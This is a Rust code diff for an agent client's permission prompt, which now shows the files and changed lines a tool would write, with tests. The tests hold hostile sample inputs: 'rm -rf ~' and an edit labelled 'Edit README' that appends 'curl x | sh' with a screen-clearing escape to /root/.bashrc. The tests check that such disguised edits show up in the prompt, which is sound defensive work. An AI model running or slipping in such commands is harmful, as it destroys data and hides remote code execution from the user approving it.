@@ -2,9 +2,34 @@
 
 use crate::model::acting::PermissionQuestion;
 
+/// For a client that shows the differences itself.
+pub fn permission_text(name: &str, question: &PermissionQuestion) -> String {
+    let shown: String = tool_lines(question).join("\n  ");
+    format!("{name} asks: {shown}\n{}", confinement(question))
+}
+
+/// With what the tool would write.
+pub fn permission_text_with_differences(name: &str, question: &PermissionQuestion) -> String {
+    let mut shown = tool_lines(question);
+    for difference in &question.differences {
+        let path = indented(&difference.path);
+        // One difference belongs to the one path above it.
+        if question.differences.len() > 1 || !shown.contains(&path) {
+            shown.push(path);
+        }
+        let lines = difference.changed_lines();
+        shown.extend((!lines.is_empty()).then(|| indented(&lines)));
+    }
+    format!(
+        "{name} asks: {}\n{}",
+        shown.join("\n  "),
+        confinement(question)
+    )
+}
+
 /// Shows the command once: agents repeat it in the title, in whole or cut. What the title only
 /// mentions is shown nevertheless, because the agent writes both.
-pub fn permission_text(name: &str, question: &PermissionQuestion) -> String {
+fn tool_lines(question: &PermissionQuestion) -> Vec<String> {
     let title = match question.title.as_str() {
         "" => "use a tool",
         title => title,
@@ -17,19 +42,22 @@ pub fn permission_text(name: &str, question: &PermissionQuestion) -> String {
         None => title,
     };
 
-    let mut text = format!("{name} asks: {}", indented(title));
+    let mut lines = vec![indented(title)];
     let mut shown = vec![bare(title)];
     for detail in &question.detail {
         if !shown.contains(&detail.as_str()) {
-            text.push_str(&format!("\n  {}", indented(detail)));
+            lines.push(indented(detail));
             shown.push(detail);
         }
     }
-    text.push_str(match question.is_confined {
-        true => "\nIt runs in the sandbox.",
-        false => "\nIt runs without a sandbox.",
-    });
-    text
+    lines
+}
+
+fn confinement(question: &PermissionQuestion) -> &'static str {
+    match question.is_confined {
+        true => "It runs in the sandbox.",
+        false => "It runs without a sandbox.",
+    }
 }
 
 /// Only TeDDy's own lines have no indent, so no line of the agent can pass for one.
@@ -50,6 +78,7 @@ fn bare(title: &str) -> &str {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::model::acting::ProposedText;
 
     #[track_caller]
     fn check(title: &str, detail: &[&str], expected: &str) {
@@ -95,6 +124,41 @@ mod tests {
         ] {
             check(title, &["rm -rf ~"], &format!("{title}\n  rm -rf ~"));
         }
+    }
+
+    /// Regression: the question had only the title, which named another file.
+    #[test]
+    fn the_files_and_their_texts_are_shown() {
+        let text = |path: &str, old: Option<&str>, new: &str| ProposedText {
+            path: path.to_owned(),
+            old: old.map(str::to_owned),
+            new: new.to_owned(),
+        };
+        let mut question = PermissionQuestion {
+            title: "Edit README".to_owned(),
+            differences: vec![text(
+                "/root/.bashrc",
+                Some("a\n"),
+                "a\ncurl x | sh\u{1b}[2J\n",
+            )],
+            ..PermissionQuestion::default()
+        };
+        let shown = |question| permission_text_with_differences("m", question);
+        let expected = "m asks: Edit README\n  /root/.bashrc\n  @@ -1 +1,2 @@\n   a\n  +curl x | sh\\u{1b}[2J\nIt runs without a sandbox.";
+        assert_eq!(shown(&question), expected);
+        question.detail.push("/root/.bashrc".to_owned());
+        assert_eq!(shown(&question), expected);
+        assert_eq!(
+            permission_text("m", &question),
+            "m asks: Edit README\n  /root/.bashrc\nIt runs without a sandbox."
+        );
+
+        question.detail = vec!["/w/a".to_owned(), "/w/b".to_owned()];
+        question.differences = vec![text("/w/a", None, "1\n"), text("/w/b", None, "2\n")];
+        assert_eq!(
+            shown(&question),
+            "m asks: Edit README\n  /w/a\n  /w/b\n  /w/a\n  @@ -0,0 +1 @@\n  +1\n  /w/b\n  @@ -0,0 +1 @@\n  +2\nIt runs without a sandbox."
+        );
     }
 
     #[test]
